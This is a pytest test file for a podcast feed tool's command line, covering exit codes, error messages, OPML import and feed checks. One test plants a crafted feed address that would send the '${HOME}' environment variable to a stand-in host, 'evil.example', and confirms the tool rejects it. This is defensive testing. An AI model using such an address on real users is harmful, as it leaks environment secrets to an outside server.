"""The command line's contract: exit codes, one line of error that says what to do, help with examples."""

import datetime as dt
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from podcast_assets.cli import cli
from podcast_assets.cli.feeds import NEXT, NO_FEEDS
from podcast_assets.config import load
from tests.conftest import Web
from tests.processes import environment, podcast_assets

FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>A show</title>{items}</channel></rss>"""
ITEM = "<item><title>{n}</title><guid>{n}</guid><pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate>{more}</item>"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder with a configuration that lists no feeds."""
    file = tmp_path / "podcasts.toml"
    file.write_text('start_date = "2026-03-01"\n[network]\nallow_private_hosts = true\ntimeout_s = 5\n')
    return tmp_path


def run(home: Path, *arguments: str) -> tuple[int, str, str]:
    done = podcast_assets(*arguments, config=home / "podcasts.toml", data=home / "data", measured=True)
    return done.returncode, done.stdout, done.stderr


@pytest.mark.parametrize(
    ("text", "key", "expected"),
    [
        ("[feeds]\npoll_concurency = 3", "poll_concurency", "poll_concurrency"),
        ('[ranking]\ntop = "five"', "[ranking] top", "integer"),
        ('timezone = "Mars/Olympus"', "timezone", "IANA"),
        ('[feeds]\nopml = ["gone.opml"]', "[feeds] opml", "gone.opml"),
        ('[transcription]\nmodel = "./gone"', "[transcription] model", "gone"),
        ("data_dir = ", "podcasts.toml", "TOML"),
        ('[extraction]\njudge_model = "gpt-x"', "[extraction]", "model"),
    ],
)
def test_a_bad_configuration_ends_with_2_and_one_line(home: Path, text: str, key: str, expected: str) -> None:
    (home / "podcasts.toml").write_text(text + "\n")
    for command in (["run"], ["feeds", "list"], ["top5"]):
        code, _, error = run(home, *command)
        assert code == 2
        assert len(error.strip().splitlines()) == 1
        assert key in error
        assert expected in error


def test_a_missing_configuration_ends_with_2_and_says_how_to_name_one(tmp_path: Path) -> None:
    code, _, error = run(tmp_path, "run")
    assert code == 2
    assert "PODCAST_ASSETS_CONFIG" in error


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["run"], "feeds add"),
        (["run", "--day", "yesterday", "--no-poll"], "2026-03-06"),
        (["run", "--day", "2025-01-01", "--no-poll"], "start_date"),
        (["run", "--day", "2999-01-01", "--no-poll"], "the last that is over"),
        (["top5", "--day", "soon"], "2026-03-06"),
        (["feeds", "add", "no-such-file.xml"], "http or https"),
        (["feeds", "remove", "https://a.example/feed"], "feeds list"),
        (["fly"], "No such command"),
        (["search"], "Missing argument"),
    ],
)
def test_wrong_usage_ends_with_2_and_says_what_is_expected(home: Path, arguments: list[str], said: str) -> None:
    code, _, error = run(home, *arguments)
    assert code == 2
    assert said in error
    assert "Traceback" not in error


@pytest.mark.parametrize("command", [["top5"], ["search", "anything"]])
def test_reading_before_the_first_run_ends_with_1_and_says_so(home: Path, command: list[str]) -> None:
    code, _, error = run(home, *command)
    assert code == 1
    assert "podcast-assets run" in error


def test_feeds_are_added_listed_exported_and_removed(home: Path) -> None:
    url = "https://a.example/feed.xml"
    assert run(home, "feeds", "list")[1] == ""
    assert run(home, "feeds", "add", url, url)[0] == 0
    assert run(home, "feeds", "list")[1].splitlines() == [url]
    (home / "out.opml").write_text(run(home, "feeds", "export")[1])
    assert run(home, "feeds", "remove", url)[0] == 0
    assert run(home, "feeds", "list")[1] == ""
    assert "1 added" in run(home, "feeds", "import", str(home / "out.opml"))[1]
    assert load(home / "podcasts.toml").feeds.urls == (url,)


def test_an_import_leaves_out_passwords_and_warns_of_tokens(home: Path) -> None:
    outlines = "".join(
        f'<outline type="rss" xmlUrl="{url}"/>'
        for url in ("https://ann:hunter22@a.example/1", "https://b.example/2?auth=0123456789", "https://c.example/3")
    )
    (home / "mine.opml").write_text(f'<opml version="2.0"><body>{outlines}</body></opml>')
    code, printed, error = run(home, "feeds", "import", str(home / "mine.opml"))
    assert (code, printed.splitlines()[0]) == (
        0,
        f"2 added, 0 followed already. {NEXT}",
    )
    assert "left out, it bears a password: a.example; expected https://${NAME_OF_A_VARIABLE}" in error
    assert "hunter22" not in error
    assert "b.example: its address seems to bear a secret, and stands in every table; better: ...=${NAME}" in error
    assert "c.example" not in error


def test_a_file_of_others_gets_at_no_variable_of_the_environment(home: Path) -> None:
    """It would be sent to whatever server the same line names."""
    line = '<outline type="rss" xmlUrl="https://evil.example/f?k=${HOME}"/>'
    (home / "mine.opml").write_text(f'<opml version="2.0"><body>{line}<outline xmlUrl="https://a.example/1"/></body></opml>')
    code, printed, error = run(home, "feeds", "import", str(home / "mine.opml"))
    assert code == 0
    assert printed.startswith("1 added")
    assert "left out, it names a variable of your environment: https://evil.example/f?k=${HOME}" in error
    assert run(home, "feeds", "list")[1].split() == ["https://a.example/1"]
    (home / "podcasts.toml").write_text('[feeds]\nopml = ["mine.opml"]\n')
    code, _, error = run(home, "feeds", "list")
    assert code == 1
    assert "evil.example names a variable of the environment" in error


def test_replay_rebuilds_a_lost_log_from_the_archive_and_says_where_both_differ(home: Path, web: Web) -> None:
    now = dt.datetime.now(tz=dt.UTC)
    dated = f"<pubDate>{now - dt.timedelta(days=1):%a, %d %b %Y %H:%M:%S} +0000</pubDate>"
    web.pages["/feed"] = FEED.format(items=ITEM.format(n=1, more=dated))
    run(home, "feeds", "add", web.url("/feed"))
    assert run(home, "run")[0] == 0
    web.pages["/feed"] = FEED.format(items=ITEM.format(n=2, more=dated) + ITEM.format(n=1, more=dated))
    assert run(home, "run")[0] == 0
    assert run(home, "feeds", "replay")[1] == "The log and the archive agree: 2 polls, 2 episodes.\n"

    log = home / "data" / "lake" / "sightings"
    files = {path.name: path.read_bytes() for path in sorted(log.iterdir())}
    assert len(files) == 2
    shutil.move(log, home / "away")
    assert run(home, "feeds", "replay")[1] == "Rebuilt from 2 polls: 2 episodes. Next: podcast-assets run\n"
    assert {path.name: path.read_bytes() for path in sorted(log.iterdir())} == files

    next(iter((home / "data" / "archive" / "bodies").iterdir())).unlink()
    code, _, error = run(home, "feeds", "replay")
    assert code == 1
    assert "1 poll not in the archive" in error


def test_check_calls_a_feed_that_fails_by_its_last_known_title_and_writes_nothing(home: Path, web: Web) -> None:
    web.pages["/feed"] = FEED.format(items=ITEM.format(n=1, more=""))
    run(home, "feeds", "add", web.url("/feed"))
    assert run(home, "feeds", "check")[0] == 0
    assert not (home / "data").exists()
    assert run(home, "run", "--day", "2026-03-02")[0] == 0
    del web.pages["/feed"]
    code, printed, _ = run(home, "feeds", "check")
    assert code == 1
    row = next(line for line in printed.splitlines() if "A show" in line)
    assert row.split() == ["A", "show", "fails"], "no number is said of what was not seen"
    assert f"HTTP 404 Not Found:\n  {web.url('/feed')}" in printed


def test_a_feed_that_was_followed_before_is_no_reason_to_remove_what_it_gave(home: Path, web: Web) -> None:
    """The advice is for whoever tried the sample first: here it would cost a person their own data."""
    web.pages["/feed"] = FEED.format(items=ITEM.format(n=1, more=""))
    web.pages["/other"] = web.pages["/feed"]
    run(home, "feeds", "add", web.url("/feed"))
    run(home, "run", "--day", "2026-03-02")
    run(home, "feeds", "remove", web.url("/feed"))
    assert "remove that folder" in run(home, "feeds", "add", web.url("/other"))[1]
    assert "remove that folder" not in run(home, "feeds", "add", web.url("/feed"))[1]


def test_what_is_taken_out_elsewhere_says_where_and_shows_no_password(home: Path) -> None:
    (home / "mine.opml").write_text('<opml version="2.0"><body><outline xmlUrl="https://a.example/1"/></body></opml>')
    (home / "podcasts.toml").write_text('[feeds]\nopml = ["mine.opml"]\n')
    code, _, error = run(home, "feeds", "remove", "https://a.example/1")
    assert code == 2
    assert f"it is followed because {home / 'mine.opml'} lists it" in error
    assert "hunter2" not in run(home, "feeds", "remove", "https://ann:hunter2@b.example/1")[2]


def test_addresses_that_were_nearly_right_get_a_hint(home: Path) -> None:
    assert "did you mean https://example.org/feed.xml?" in run(home, "feeds", "add", "example.org/feed.xml")[2]
    assert "curl -o feeds.opml https://example.org/x.opml" in run(home, "feeds", "import", "https://example.org/x.opml")[2]
    (home / "podcasts.toml").write_text('[feeds]\nurls = ["htp://example.org/feed.xml"]\n')
    code, _, error = run(home, "feeds", "list")
    assert code == 2
    assert "'htp://example.org/feed.xml' is no address of a feed" in error


def test_a_path_is_seen_from_the_folder_it_was_typed_in(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "feed.xml").write_text(FEED.format(items=""))
    monkeypatch.chdir(folder)
    assert "1 added" in run(home, "feeds", "add", "feed.xml")[1]
    (url,) = load(home / "podcasts.toml").feeds.urls
    assert (home / url).resolve() == folder / "feed.xml"


def test_where_there_is_nothing_to_check_or_to_rebuild_the_next_step_is_said(home: Path) -> None:
    code, printed, said = run(home, "feeds", "check")
    assert (code, printed) == (0, "")
    assert said == run(home, "feeds", "list")[2] == NO_FEEDS + "\n"
    assert run(home, "feeds", "replay")[1].startswith("Nothing to rebuild: no poll has found an episode yet.")


def test_an_address_as_apps_write_it_is_added_and_the_same_show_only_once(home: Path) -> None:
    same = [
        "feed://a.example/1.xml",
        "https://A.example:443/1.xml/",
        "http://a.example:80/1.xml",
        "https://www.a.example/1.xml",
    ]
    assert run(home, "feeds", "add", *same)[1].startswith("2 added, 2 followed already.")
    assert run(home, "feeds", "list")[1].split() == ["http://a.example/1.xml", "https://www.a.example/1.xml"]


def test_check_tells_of_each_feed_and_fails_when_one_does(home: Path, web: Web) -> None:
    web.pages["/good"] = FEED.format(items=ITEM.format(n=1, more=""))
    run(home, "feeds", "add", web.url("/good"), web.url("/gone"))
    code, printed, error = run(home, "feeds", "check")
    assert code == 1
    assert "1 of 2 feeds fail" in error
    assert "2026-03-02" in printed
    assert "HTTP 404" in printed


def test_bad_feeds_and_episodes_are_rows_and_the_day_goes_on(home: Path, web: Web) -> None:
    """A dead feed, no XML, no enclosure, no date, a broken transcript: each a status and a reason."""
    import duckdb

    yesterday = dt.datetime.now(tz=dt.UTC) - dt.timedelta(days=1)
    dated = f"<pubDate>{yesterday:%a, %d %b %Y 12:00:00 GMT}</pubDate>"
    link = '<podcast:transcript xmlns:podcast="https://podcastindex.org/namespace/1.0" url="{}" type="text/vtt"/>'
    items = [
        f"<item><title>nothing</title><guid>1</guid>{dated}</item>",
        f"<item><title>broken</title><guid>2</guid>{dated}{link.format(web.url('/broken.vtt'))}</item>",
        f'<item><title>silent</title><guid>3</guid>{dated}<enclosure url="{web.url("/a.mp3")}" type="audio/mpeg"/></item>',
        f"<item><title>undated</title><guid>4</guid>{link.format(web.url('/broken.vtt'))}</item>",
    ]
    web.pages |= {
        "/feed": FEED.format(items="".join(items)),
        "/page": "<html><body>hello</body></html>",
        "/broken.vtt": "no",
    }
    (home / "podcasts.toml").write_text(
        f'start_date = "2026-01-01"\n[feeds]\nurls = ["{web.url("/feed")}", "{web.url("/dead")}", "{web.url("/page")}"]\n'
        "[network]\nallow_private_hosts = true\ntimeout_s = 5\n"
    )
    code, printed, error = run(home, "run")
    assert code == 0, error
    assert "2 with trouble" in printed
    assert "Nothing to show for that day: 3 of 3 episodes have no transcript." in printed
    assert f"1 feed: HTTP 404 Not Found (such as {web.url('/dead')})" in printed
    with duckdb.connect(home / "data" / "podcasts.duckdb", read_only=True) as connection:
        feeds = dict(connection.execute("select feed_url, error from feeds").fetchall())
        assert feeds[web.url("/feed")] is None
        assert "404" in feeds[web.url("/dead")]
        assert "not a feed" in feeds[web.url("/page")]
        sql = "select e.title, t.status, t.reason from episodes e join transcripts t using (episode_id)"
        found = {title: (status, reason) for title, status, reason in connection.execute(sql).fetchall()}
    assert set(found) == {"nothing", "broken", "silent"}  # the undated one counts on today, which is not over
    for status, reason in found.values():
        assert status == "failed"
        assert reason


def test_a_day_that_fails_does_not_keep_the_days_after_it_from_their_five(home: Path, web: Web) -> None:
    """Days are caught up oldest first: one that cannot be run would else stand in the way of all others, every day."""
    before, yesterday = (dt.datetime.now(tz=dt.UTC) - dt.timedelta(days=days) for days in (2, 1))
    items = [
        f"<item><title>{day:%d}</title><guid>{day:%d}</guid><pubDate>{day:%a, %d %b %Y 12:00:00 GMT}</pubDate>"
        f'<enclosure url="{web.url("/gone.mp3")}" type="audio/mpeg"/></item>'
        for day in (before, yesterday)
    ]
    web.pages["/feed"] = FEED.format(items="".join(items))
    (home / "podcasts.toml").write_text(
        f'start_date = "2026-01-01"\n[feeds]\nurls = ["{web.url("/feed")}"]\n[network]\nallow_private_hosts = true\n'
    )
    in_the_way = home / "data" / "digests" / f"{before:%Y-%m-%d}.md"
    in_the_way.mkdir(parents=True)
    code, printed, error = run(home, "run")
    assert code == 1
    assert f"{before:%Y-%m-%d}: failed" in printed
    assert f"{yesterday:%Y-%m-%d}: 1 episode of 1 show," in printed
    assert "Nothing to show for that day: 1 of 1 episode has no transcript." in printed
    assert len(error.strip().splitlines()) == 1
    assert str(in_the_way) in error
    in_the_way.rmdir()
    code, printed, error = run(home, "run")
    assert code == 0, error
    assert f"{before:%Y-%m-%d}: 1 episode of 1 show," in printed, "the next run tries the failed day again"


def test_a_word_that_a_publisher_took_for_a_title_breaks_no_progress_bar() -> None:
    """Titles that look like markup of the terminal's library are shown as they are; so are those that look like emoji."""
    from io import StringIO

    from rich.console import Console

    from podcast_assets import progress
    from podcast_assets.cli import show

    out = StringIO()
    terminal = Console(file=out, force_terminal=True, width=120)
    with progress.show_in(terminal), progress.steps("polling feeds", 2) as step:
        for title in ("[/b] The Ad-Free Show", "[red]two"):
            step(title)
            time.sleep(0.2)  # the bars are drawn ten times a second
    assert "[/b] The Ad-Free Show" in out.getvalue()
    printed = show.console()
    with printed.capture() as shown:
        printed.print("1:100:3 :x:")
    assert shown.get() == "1:100:3 :x:\n"


def test_an_interrupted_run_says_that_nothing_is_lost(home: Path, web: Web) -> None:
    asked = threading.Event()

    def never(handler: Any) -> None:
        asked.set()
        handler.close_connection = True
        handler.connection.recv(1)

    web.pages["/feed"] = never
    (home / "podcasts.toml").write_text(
        f'[feeds]\nurls = ["{web.url("/feed")}"]\n[network]\nallow_private_hosts = true\ntimeout_s = 60\n'
    )
    running = subprocess.Popen(
        [sys.executable, "-m", "podcast_assets", "run"],
        env=environment(home / "podcasts.toml", home / "data", measured=True),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # noqa: PLW1509 - one call, and no lock; a shell's background job ignores the signal
    )
    assert asked.wait(60)
    running.send_signal(signal.SIGINT)
    _, error = running.communicate(timeout=60)
    assert running.returncode == 1
    assert error.strip() == "interrupted; nothing is lost: run the same command again"


def test_what_is_no_address_in_an_opml_file_is_left_out_by_name(home: Path) -> None:
    outlines = "".join(
        f'<outline type="rss" xmlUrl="{url}"/>' for url in ("http://a.example/1", "http://", "feed://b.example/2")
    )
    (home / "mine.opml").write_text(f'<opml version="2.0"><body>{outlines}</body></opml>')
    code, printed, error = run(home, "feeds", "import", str(home / "mine.opml"))
    assert code == 0, error
    assert "2 added" in printed
    assert "left out, no address: http://" in error
    assert run(home, "feeds", "list")[1].split() == ["http://a.example/1", "http://b.example/2"]


def test_a_data_folder_that_cannot_be_used_is_named_with_its_key(home: Path) -> None:
    (home / "data").write_text("a file")
    (home / "podcasts.toml").write_text('[feeds]\nurls = ["https://example.org/feed.xml"]\n')
    code, _, error = run(home, "run")
    assert code == 2
    assert len(error.strip().splitlines()) == 1
    assert "data_dir" in error
    assert "PODCAST_ASSETS_DATA_DIR" in error


@pytest.mark.parametrize(
    "arguments",
    [["search", "\udcff"], ["feeds", "add", "https://example.org/\u202efeed"], ["feeds", "add", "x" * 5000]],
    ids=["no UTF-8", "a mark of direction", "a name too long"],
)
def test_arguments_that_nobody_can_read_end_with_2_and_one_line(home: Path, arguments: list[str]) -> None:
    code, _, error = run(home, *arguments)
    assert code == 2
    assert len(error.strip().splitlines()) == 1
    assert len(error) < 1100


def test_a_result_that_cannot_be_written_is_a_failure(home: Path) -> None:
    (home / "podcasts.toml").write_text('[feeds]\nurls = ["https://example.org/feed.xml"]\n')
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "podcast_assets", "feeds", "list"],
            env=environment(home / "podcasts.toml", home / "data", measured=True),
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[0] == "Error: [Errno 28] No space left on device"


def test_every_command_s_help_shows_an_example() -> None:
    from click.testing import CliRunner

    for command in (["run"], ["top5"], ["search"], ["dev"], ["feeds"], ["feeds", "add"], ["feeds", "import"], []):
        printed = CliRunner().invoke(cli, [*command, "--help"]).output
        assert "Example:\n" in printed, f"{command}: the lines of the example are joined"
        assert "\\b" not in printed
        assert "podcast-assets" in printed
